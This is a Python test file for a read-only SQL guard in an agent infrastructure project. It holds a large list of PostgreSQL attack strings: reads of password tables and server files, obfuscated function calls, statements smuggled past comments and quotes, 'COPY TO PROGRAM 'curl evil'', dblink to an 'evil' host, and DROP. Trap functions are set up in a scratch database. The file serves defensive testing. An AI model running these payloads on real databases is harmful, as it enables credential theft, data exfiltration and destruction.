"""Attacks on the read-only guard, and what the server does with those that are not its to stop.

The guard stops what a statement says. Four things a statement does not say are stopped below it:
other people's tables (the role's privileges), writing behind a view, an operator or a function
(the READ ONLY transaction and the role), and statements that never end (time-outs).
"""

from __future__ import annotations

import itertools
import secrets
from contextlib import AsyncExitStack
from typing import TYPE_CHECKING, Any

import asyncpg
import pytest

from agentinfra.db.guard import FUNCTIONS_SQL, GuardVerdict, examine, functions_of, judge
from agentinfra.db.guard.names import HARMLESS

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

ATTACKS = {
    # EXPLAIN that runs what it explains
    "explain analyze delete": "EXPLAIN ANALYZE DELETE FROM victim",
    "explain analyse, bracketed": "EXPLAIN (VERBOSE, ANALYSE) CREATE TABLE stolen AS SELECT 1",
    "explain analyze select into": "EXPLAIN (ANALYZE) SELECT * INTO stolen FROM victim",
    "explain analyze locking": "EXPLAIN (ANALYZE) SELECT * FROM victim FOR UPDATE",
    "explain analyze delete in a with": "EXPLAIN (ANALYZE, TIMING off) WITH d AS (DELETE FROM "
    "victim RETURNING 1) SELECT * FROM d",
    "explain with an option nobody knows": "EXPLAIN (SIDE_EFFECTS) SELECT 1",
    "explain create table as": "EXPLAIN (FORMAT JSON) CREATE TABLE x AS SELECT 1",
    "explain delete": "EXPLAIN DELETE FROM victim",
    "explain execute": "EXPLAIN EXECUTE p",
    "explain declare": "EXPLAIN DECLARE c CURSOR FOR SELECT 1",
    "explain refresh": "EXPLAIN REFRESH MATERIALIZED VIEW m",
    "explain a denied function": "EXPLAIN SELECT pg_terminate_backend(1)",
    "explain a secret": "EXPLAIN (VERBOSE) SELECT * FROM pg_authid",
    # writing inside of a query
    "delete in a with": "WITH d AS (DELETE FROM victim RETURNING *) SELECT count(*) FROM d",
    "merge in a with": "WITH m AS (MERGE INTO victim v USING (VALUES (1)) s(i) ON v.id = s.i "
    "WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m",
    "update in a with of a subselect": "SELECT (WITH u AS (UPDATE victim SET t = '' RETURNING 1) "
    "SELECT count(*) FROM u)",
    "insert in a with of a from": "SELECT * FROM (WITH i AS (INSERT INTO victim VALUES (9) "
    "RETURNING id) SELECT * FROM i) q",
    "delete in a second with": "WITH a AS (TABLE t), b AS (DELETE FROM victim RETURNING 1) TABLE a",
    "insert in a with of a union": "SELECT 1 UNION ALL (WITH i AS (INSERT INTO victim VALUES (8) "
    "RETURNING 1) SELECT * FROM i)",
    "with before an insert": "WITH a AS (SELECT 1) INSERT INTO victim SELECT * FROM a",
    "select into temp": "SELECT 1 AS a INTO TEMP stolen",
    "select into unlogged": "SELECT * INTO UNLOGGED TABLE stolen FROM victim",
    "into in a with": "WITH a AS (SELECT 1 AS x) SELECT x INTO stolen FROM a",
    "into in the first of a union": "SELECT 1 AS x INTO stolen UNION SELECT 2",
    "create table as values": "CREATE TABLE stolen AS VALUES (1)",
    "create view": "CREATE TEMP VIEW v AS SELECT 1",
    # locking
    "for no key update": "SELECT * FROM victim FOR NO KEY UPDATE SKIP LOCKED",
    "for share in a subselect": "SELECT * FROM (SELECT * FROM victim FOR KEY SHARE) q",
    "for share in a with": "WITH l AS (SELECT * FROM victim FOR SHARE NOWAIT) SELECT 1 FROM l",
    "for update of a join": "SELECT * FROM victim v JOIN victim w USING (id) FOR UPDATE OF v",
    "advisory lock": "SELECT 1 FROM generate_series(1, 9) g WHERE pg_try_advisory_lock(g)",
    # functions by other spellings
    "quoted": "SELECT \"pg_read_file\"('PG_VERSION')",
    "quoted in capitals": "SELECT \"PG_READ_FILE\"('PG_VERSION')",
    "capitals": "SELECT PG_Read_File('PG_VERSION')",
    "unicode escape": "SELECT U&\"pg\\005Fread_file\"('PG_VERSION')",
    "unicode escape of one's own": "SELECT U&\"pg!005Fread_file\" UESCAPE '!' ('PG_VERSION')",
    "schema": "SELECT pg_catalog.pg_read_file('PG_VERSION')",
    "quoted schema": 'SELECT "pg_catalog"."lo_import"(\'/etc/passwd\')',
    "database and schema": "SELECT postgres.pg_catalog.pg_sleep(9)",
    "spaces and comments": "SELECT pg_read_file /* ; */ -- x\n ('PG_VERSION')",
    "attribute of a text": "SELECT ('PG_VERSION'::text).pg_read_file",
    "attribute of a number": "SELECT (0.01::float8).pg_sleep",
    "attribute of a parameter": "SELECT $1.pg_read_file",
    "attribute of a function in from": "SELECT f.pg_read_file FROM upper('PG_VERSION') AS f",
    "attribute of an attribute": "SELECT (('PG_VERSION'::text).pg_read_file).upper",
    "attribute of a subscript": "SELECT ((ARRAY['PG_VERSION'])[1]).pg_read_file",
    "attribute of a subselect": "SELECT (SELECT 'PG_VERSION'::text).pg_read_file",
    "attribute of a row": "SELECT ((f)).pg_read_file FROM upper('PG_VERSION') AS f",
    "attribute in order by": "SELECT 1 FROM upper('PG_VERSION') f ORDER BY f.pg_read_file",
    "attribute that runs a text": "SELECT ('SELECT to_tsvector(a) FROM pg_authid'::text).ts_stat",
    "attribute that tells a setting": "SELECT ('primary_conninfo'::text).current_setting",
    "rows from": "SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 9))",
    "lateral": "SELECT * FROM victim, LATERAL pg_read_binary_file(t)",
    "column list": "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
    "named argument": "SELECT set_config(new_value => 'role', setting_name => 'a', is_local => x)",
    "variadic": "SELECT pg_catalog.set_config(VARIADIC ARRAY['a', 'b', 'c'])",
    # functions that run a text or reach outside
    "ts_stat": "SELECT * FROM ts_stat('SELECT to_tsvector(rolpassword) FROM pg_authid')",
    "ts_rewrite": "SELECT ts_rewrite('a'::tsquery, 'SELECT ''b''::tsquery, ''c''::tsquery')",
    "table_to_xmlschema": "SELECT table_to_xmlschema('pg_authid', true, true, '')",
    "schema_to_xml": "SELECT schema_to_xml('private', true, true, '')",
    "cursor_to_xml": "SELECT cursor_to_xml('c', 9, true, true, '')",
    "crosstab": "SELECT * FROM crosstab('DELETE FROM victim RETURNING 1, 2, 3') AS t(a int)",
    "lo_get": "SELECT convert_from(lo_get(16384), 'UTF8')",
    "lo_from_bytea": "SELECT lo_from_bytea(0, 'x')",
    "loread": "SELECT loread(lo_open(1, 262144), 99)",
    "backend pid": "SELECT pg_cancel_backend(pg_backend_pid())",
    "stat_get_activity": "SELECT query FROM pg_stat_get_activity(NULL)",
    "show_all_settings": "SELECT * FROM pg_show_all_settings()",
    "file settings": "SELECT * FROM pg_catalog.pg_show_all_file_settings()",
    "prepared statements": "SELECT statement FROM pg_prepared_statement()",
    "logical message": "SELECT pg_logical_emit_message(false, 'a', 'b')",
    "notify": "SELECT pg_notify('channel', 'text')",
    "transaction id": "SELECT txid_current(), pg_current_xact_id()",
    "current_setting": "SELECT current_setting('primary_conninfo', true)",
    "current_setting, computed": "SELECT current_setting('data_' || 'directory')",
    "current_setting, parameter": "SELECT current_setting($1)",
    # relations
    "table": "TABLE pg_authid",
    "relation with a schema": "SELECT rolpassword FROM pg_catalog.pg_authid",
    "relation with a database": "SELECT * FROM postgres.pg_catalog.pg_shadow",
    "relation, unicode": 'SELECT * FROM U&"pg_shado\\0077"',
    "relation in exists": "SELECT 1 WHERE EXISTS (SELECT FROM pg_authid WHERE rolpassword > 'x')",
    "relation in a join": "SELECT * FROM victim v LEFT JOIN (pg_roles r CROSS JOIN a) ON true",
    "relation with only": "SELECT * FROM ONLY (pg_largeobject)",
    "sample": "SELECT * FROM pg_statistic TABLESAMPLE SYSTEM (100)",
    "settings": "SELECT setting FROM pg_settings",
    "hba": "SELECT * FROM pg_hba_file_rules",
    "foreign passwords": "SELECT * FROM information_schema.user_mapping_options",
    "toast": "SELECT chunk_data FROM pg_toast.pg_toast_1260",
    "other sessions": "SELECT query FROM pg_stat_activity",
    "statements of all": "SELECT query FROM public.pg_stat_statements",
    "statistics": "SELECT most_common_vals FROM pg_stats",
    # sessions, transactions and what is no query
    "copy to program": "COPY (SELECT 1) TO PROGRAM 'curl evil'",
    "copy from": "COPY victim FROM '/etc/passwd'",
    "prepare": "PREPARE p AS DELETE FROM victim",
    "deallocate": "DEALLOCATE ALL",
    "declare": "DECLARE c CURSOR FOR SELECT 1",
    "close": "CLOSE ALL",
    "set role": "SET ROLE postgres",
    "set time zone": "SET TIME ZONE 'UTC'",
    "set transaction": "SET TRANSACTION READ WRITE",
    "reset": "RESET ALL",
    "begin": "BEGIN",
    "end": "END",
    "abort": "ABORT AND CHAIN",
    "savepoint": "SAVEPOINT s",
    "prepare transaction": "PREPARE TRANSACTION 'x'",
    "listen": "LISTEN c",
    "call": "CALL p()",
    "do": "DO LANGUAGE plpgsql $x$ BEGIN DELETE FROM victim; END $x$",
    "alter system": "ALTER SYSTEM SET archive_command = 'rm'",
    "alter role": "ALTER ROLE postgres PASSWORD 'x'",
    "drop": "DROP TABLE IF EXISTS victim CASCADE",
    "truncate": "TRUNCATE victim",
    "vacuum": "VACUUM victim",
    "checkpoint": "CHECKPOINT",
    "comment": "COMMENT ON TABLE victim IS 'x'",
    "import foreign schema": "IMPORT FOREIGN SCHEMA a FROM SERVER b INTO c",
    "create extension": "CREATE EXTENSION dblink",
    "create function": "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END",
    "security label": "SECURITY LABEL ON TABLE victim IS 'x'",
    "show a secret": "SHOW primary_conninfo",
    "show an application's setting": "SHOW app.jwt_secret",
    # several statements, hidden
    "after a nested comment": "SELECT 1 /* /* */ ; SELECT 2 */; DROP TABLE victim",
    "after a dollar quote": "SELECT $a$ $b$ $a$; DELETE FROM victim; SELECT $b$ $b$",
    "after an escape string": "SELECT E'\\''; DELETE FROM victim; SELECT ''",
    "after a backslash": "SELECT '\\'; DELETE FROM victim --'",
    "after a line comment": "SELECT 1 -- \n; DELETE FROM victim",
    "after a carriage return": "SELECT 1 -- \r; DELETE FROM victim",
    "after nothing": ";;DELETE FROM victim",
}
POSITIONS = """
SELECT {}
SELECT DISTINCT ON ({}) 1
SELECT 1 FROM t WHERE {} IS NULL
SELECT 1 FROM t GROUP BY ROLLUP (a, {})
SELECT 1 FROM t GROUP BY a HAVING {} = 1
SELECT 1 FROM t ORDER BY 1, {} DESC
SELECT 1 LIMIT {}
SELECT 1 OFFSET {}
SELECT 1 FETCH FIRST ({}) ROWS ONLY
SELECT sum(1) OVER (PARTITION BY {})
SELECT sum(1) OVER w FROM t WINDOW w AS (ORDER BY {})
SELECT sum(1) OVER (ORDER BY a RANGE BETWEEN {} PRECEDING AND CURRENT ROW) FROM t
SELECT count(*) FILTER (WHERE {} > 0)
SELECT string_agg(a, {} ORDER BY b) FROM t
SELECT string_agg(a, b ORDER BY {}) FROM t
SELECT percentile_cont({}) WITHIN GROUP (ORDER BY a) FROM t
SELECT mode() WITHIN GROUP (ORDER BY {}) FROM t
SELECT f(x => {})
SELECT f(VARIADIC {})
SELECT * FROM a JOIN b ON {} = 1
SELECT * FROM a, LATERAL (SELECT {}) x
SELECT * FROM generate_series(1, {}) WITH ORDINALITY
SELECT * FROM ROWS FROM (f(1), g({})) AS x
SELECT * FROM t TABLESAMPLE SYSTEM ({})
SELECT * FROM t TABLESAMPLE SYSTEM (1) REPEATABLE ({})
SELECT * FROM XMLTABLE({} PASSING x COLUMNS a int)
SELECT * FROM XMLTABLE('/r' PASSING {} COLUMNS a int)
SELECT * FROM XMLTABLE('/r' PASSING x COLUMNS a int PATH {})
SELECT * FROM XMLTABLE('/r' PASSING x COLUMNS a int DEFAULT {})
SELECT * FROM XMLTABLE(XMLNAMESPACES({} AS n), '/r' PASSING x COLUMNS a int)
SELECT * FROM JSON_TABLE({}, '$' COLUMNS (a int))
SELECT * FROM JSON_TABLE('1', '$' PASSING {} AS x COLUMNS (a int))
SELECT * FROM JSON_TABLE('1', '$' COLUMNS (a int DEFAULT {} ON ERROR))
SELECT * FROM JSON_TABLE('1', '$' COLUMNS (NESTED PATH '$' COLUMNS (a int DEFAULT {} ON EMPTY)))
SELECT JSON_VALUE({}, '$')
SELECT JSON_QUERY('1', {})
SELECT JSON_VALUE('1', '$' PASSING {} AS x)
SELECT JSON_VALUE('1', '$' DEFAULT {} ON ERROR)
SELECT JSON_OBJECT({}: 1)
SELECT JSON_OBJECT('a': {})
SELECT JSON_ARRAY(1, {})
SELECT JSON_ARRAY(SELECT {})
SELECT JSON_OBJECTAGG('a': {})
SELECT JSON_ARRAYAGG({})
SELECT JSON({}), 1
SELECT JSON_SCALAR({})
SELECT JSON_SERIALIZE({})
SELECT {} IS JSON OBJECT
SELECT xmlelement(name a, {})
SELECT xmlelement(name a, xmlattributes({} AS b))
SELECT xmlforest({} AS a)
SELECT xmlconcat(a, {})
SELECT xmlserialize(content {} AS text)
SELECT xmlexists('/r' PASSING {})
SELECT xmlparse(document {})
SELECT xmlpi(name a, {})
SELECT xmlroot(a, version {})
SELECT {} IS DOCUMENT
VALUES (1), ({})
SELECT ARRAY[1, {}]
SELECT (ARRAY[1])[{}]
SELECT (ARRAY[1])[1:{}]
SELECT ROW(1, {}) = ROW(1, 2)
SELECT ({}).a
SELECT {}::text
SELECT CAST({} AS text)
SELECT {} COLLATE "C"
SELECT {} BETWEEN 1 AND 2
SELECT 1 BETWEEN 1 AND {}
SELECT 1 IN (2, {})
SELECT 1 = ANY (ARRAY[{}])
SELECT {} = ALL (SELECT 1)
SELECT a LIKE {} ESCAPE '!'
SELECT a LIKE 'b' ESCAPE {}
SELECT a SIMILAR TO {}
SELECT {} IS DISTINCT FROM 1
SELECT NULLIF(1, {})
SELECT COALESCE(a, {})
SELECT GREATEST(a, {})
SELECT CASE {} WHEN 1 THEN 2 END
SELECT CASE WHEN {} THEN 2 END
SELECT CASE WHEN a THEN {} END
SELECT CASE WHEN a THEN b ELSE {} END
SELECT NOT {}
SELECT - {}
SELECT 1 OPERATOR(pg_catalog.+) {}
SELECT a AT TIME ZONE {}
SELECT EXTRACT(day FROM {})
SELECT OVERLAY(a PLACING {} FROM 1)
SELECT SUBSTRING(a FROM {} FOR 1)
SELECT SUBSTRING(a SIMILAR {} ESCAPE '!')
SELECT POSITION({} IN a)
SELECT TRIM(BOTH {} FROM a)
SELECT NORMALIZE({})
SELECT {} IS NORMALIZED
SELECT (a, {}) OVERLAPS (c, d)
SELECT COLLATION FOR ({})
SELECT GROUPING({}) FROM t GROUP BY a
WITH x AS (SELECT {}) SELECT 1
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT {} FROM r) SELECT 1
SELECT 1 UNION (SELECT 2 EXCEPT SELECT {})
SELECT EXISTS (SELECT {})
SELECT ARRAY(SELECT {})
SELECT (SELECT (SELECT {}))
EXPLAIN (FORMAT JSON) SELECT {}
""".strip().splitlines()
PAYLOADS = {
    "call": "pg_read_file('PG_VERSION')",
    "attribute": "('PG_VERSION'::text).pg_read_file",
    "column": "f.pg_read_file",
    "secret": "(SELECT rolpassword FROM pg_authid)",
    "write": "(WITH d AS (DELETE FROM victim RETURNING 1) SELECT * FROM d)",
    "lock": "(SELECT 1 FROM victim FOR UPDATE)",
}
WITHIN = list(itertools.product(POSITIONS, PAYLOADS))


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_refused(name: str):
    """What does more than read is refused, however it is written."""
    assert judge(ATTACKS[name]).refusal is not None


@pytest.mark.parametrize(("position", "payload"), WITHIN)
def test_no_position_hides_a_payload(position: str, payload: str):
    """Wherever an expression may stand, what must not be in it is found."""
    assert judge(position.replace("{}", "a")).refusal is None
    refusal = judge(position.replace("{}", PAYLOADS[payload])).refusal
    assert refusal is not None


BELOW = {
    "a function that writes": "SELECT pwn_func()",
    "a function that writes, as an attribute": "SELECT (1).pwn_func_of",
    "a function behind a view": "SELECT * FROM v_pwn",
    "a function behind an operator": "SELECT 1 @+@ 1",
    "a function behind a cast": "SELECT 'x'::pwn_domain",
    "somebody else's table": "SELECT * FROM private.secrets",
    "rows without end": "SELECT g, repeat('x', 1000) FROM generate_series(1, 500000000) g",
    "recursion without end": "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
    "SELECT max(n) FROM r",
    "memory without end": "SELECT array_agg(md5(g::text)) FROM generate_series(1, 999999999) g",
}
"""Statements that only read as far as their text goes."""

SCHEMA = """
CREATE TABLE victim (id int, t text);
INSERT INTO victim VALUES (1, 'a'), (2, 'b');
CREATE SEQUENCE victim_seq;
CREATE SCHEMA private;
CREATE TABLE private.secrets (s text);
CREATE FUNCTION pwn_func() RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS
    $$ BEGIN INSERT INTO victim VALUES (666, 'x'); RETURN 1; END $$;
CREATE FUNCTION pwn_func_of(int) RETURNS int LANGUAGE sql AS 'SELECT pwn_func()';
CREATE FUNCTION pwn_add(int, int) RETURNS int LANGUAGE sql AS 'SELECT pwn_func()';
CREATE FUNCTION pwn_check(text) RETURNS bool LANGUAGE sql AS 'SELECT pwn_func() > 0';
CREATE FUNCTION only_reads(int) RETURNS int STABLE LANGUAGE sql AS 'SELECT $1';
CREATE OPERATOR @+@ (FUNCTION = pwn_add, LEFTARG = int, RIGHTARG = int);
CREATE DOMAIN pwn_domain AS text CHECK (pwn_check(VALUE));
CREATE VIEW v_pwn AS SELECT pwn_func();
GRANT SELECT ON victim, v_pwn TO {role};
"""
STATE = """
SELECT (SELECT jsonb_agg(v ORDER BY id) FROM victim v),
       (SELECT last_value FROM victim_seq),
       (SELECT array_agg(oid::text ORDER BY oid) FROM pg_class),
       (SELECT array_agg(oid::text ORDER BY oid) FROM pg_proc),
       (SELECT array_agg(rolname ORDER BY 1) FROM pg_roles),
       (SELECT count(*) FROM pg_largeobject_metadata),
       (SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'),
       (SELECT count(*) FROM pg_replication_slots)
"""


class Target:
    """A database of its own, its owner's connection and that of a role that may read one table."""

    def __init__(self, owner: Any, reader: Any) -> None:
        self.owner = owner
        self.reader = reader

    async def run(self, sql: str) -> Exception | None:
        """Run it as a plain reader does, at most 0.3 s and ten rows."""
        transaction = self.reader.transaction(readonly=True)
        await transaction.start()
        try:
            await self.reader.execute("SET LOCAL statement_timeout = 300")
            await self.reader.fetch(f"SELECT * FROM ({sql}) AS q LIMIT 10")
        except asyncpg.PostgresError as error:
            return error
        finally:
            await transaction.rollback()
        return None


@pytest.fixture
async def target(places: Any) -> AsyncIterator[Target]:
    """Give a database with every trap in it, and remove it again."""
    name, postgres_url = f"guard_{secrets.token_hex(4)}", places.server.url
    async with AsyncExitStack() as stack:
        server = await asyncpg.connect(postgres_url)
        stack.push_async_callback(server.close)
        await server.execute(f"CREATE ROLE {name} LOGIN")
        stack.push_async_callback(server.execute, f"DROP ROLE {name}")
        await server.execute(f"CREATE DATABASE {name}")
        stack.push_async_callback(server.execute, f"DROP DATABASE {name} WITH (FORCE)")
        owner = await asyncpg.connect(postgres_url, database=name)
        stack.push_async_callback(owner.close)
        await owner.execute(SCHEMA.format(role=name))
        reader = await asyncpg.connect(postgres_url, database=name, user=name)
        stack.push_async_callback(reader.close)
        yield Target(owner, reader)


async def test_what_the_guard_lets_through_changes_nothing(target: Target):
    """A statement the guard cannot know better fails below it, or is cut short, without effect."""
    before = await target.owner.fetchrow(STATE)
    for name, sql in BELOW.items():
        assert judge(sql).refusal is None, name
        error = await target.run(sql)
        assert error is not None or name == "rows without end", name
        assert await target.owner.fetchrow(STATE) == before, name


async def judged(connection: Any, sql: str) -> GuardVerdict:
    """The verdict with what the server says of the functions of its names."""
    verdict = examine(sql)
    if verdict.refusal is not None:
        return verdict
    rows = await connection.fetch(FUNCTIONS_SQL, sorted(verdict.touched.names))
    return verdict.with_functions(functions_of(rows))


async def test_volatile_functions_are_refused_by_name(target: Target):
    """A function that may write is refused before it is run, in every notation."""
    refused = ("SELECT pwn_func()", "SELECT (1).pwn_func_of", "SELECT public.pwn_add(1, 2)")
    for sql in (*refused, "SELECT x.pwn_func_of FROM abs(1) AS x", "EXPLAIN SELECT pwn_func()"):
        assert (await judged(target.reader, sql)).refusal is not None, sql
    fine = ("SELECT only_reads(1)", "SELECT public.only_reads(count(*)::int), random() FROM victim")
    for sql in (*fine, "SELECT now() AT TIME ZONE 'UTC', EXTRACT(day FROM now()), upper('x')"):
        assert (await judged(target.reader, sql)).refusal is None, sql


async def test_a_function_that_does_not_exist_is_the_servers_to_refuse(target: Target):
    """Neither a name nor a number of arguments that is not there is called a violation."""
    for sql in ("SELECT not_there(1)", "SELECT pwn_func(1, 2, 3)", "SELECT public.abs(1)"):
        assert (await judged(target.reader, sql)).refusal is None, sql
        error = await target.run(sql)
        assert error is not None
        assert error.sqlstate == "42883", sql


async def test_a_column_is_no_function(target: Target):
    """A column that shares its name with a function that writes can be read."""
    await target.owner.execute(
        "CREATE TABLE items (id int, pwn_add int, pwn_func_of int); GRANT SELECT ON items TO PUBLIC"
    )
    for sql in ("SELECT i.pwn_add FROM items i", "SELECT items.pwn_func_of FROM items"):
        assert (await judged(target.reader, sql)).refusal is None, sql
        assert await target.run(sql) is None


async def test_a_call_that_can_only_be_postgresqls_is_made_so(target: Target):
    """Beside somebody's function that may write, PostgreSQL's own of that name is called."""
    await target.owner.execute(
        "CREATE FUNCTION round(float8, int) RETURNS numeric LANGUAGE sql AS 'SELECT 666::numeric'"
    )
    verdict = await judged(target.reader, "SELECT 'é', round(1.25::numeric, 1), round(2.5)")
    assert verdict.refusal is None
    assert verdict.statement == "SELECT 'é', pg_catalog.round(1.25::numeric, 1), round(2.5)"
    assert (await judged(target.reader, "SELECT public.round(1.5, 1)")).refusal is not None
    commented = await judged(target.reader, "-- é\n SELECT /* x */ round(1, 1) --")
    assert commented.statement == "SELECT /* x */ pg_catalog.round(1, 1) --\n"


async def test_volatile_functions_of_the_server_are_known(target: Target):
    """Of PostgreSQL's own functions none that writes passes."""
    volatile = await target.owner.fetch(
        "SELECT DISTINCT proname AS name, (SELECT count(*) FROM unnest(proargtypes)) AS arguments "
        "FROM pg_proc WHERE provolatile = 'v' "
        "AND pronamespace = 'pg_catalog'::regnamespace AND prorettype <> 'trigger'::regtype "
        "AND NOT 'internal'::regtype = ANY (proargtypes)"
    )
    passing = set()
    for row in volatile:
        sql = f"SELECT {row['name']}({', '.join(['NULL'] * row['arguments'])})"
        if (await judged(target.owner, sql)).refusal is None:
            passing.add(row["name"])
    assert passing >= {"random", "clock_timestamp", "pg_total_relation_size"}
    assert passing <= HARMLESS


async def test_positions_are_what_the_server_parses(target: Target):
    """Every position of an expression that is tested is one the server's grammar knows, too."""
    for position in POSITIONS:
        with pytest.raises(asyncpg.PostgresError) as caught:
            await target.owner.execute(f"{position.replace('{}', 'nothing_by_this_name')}")
        assert "syntax error" not in str(caught.value), position
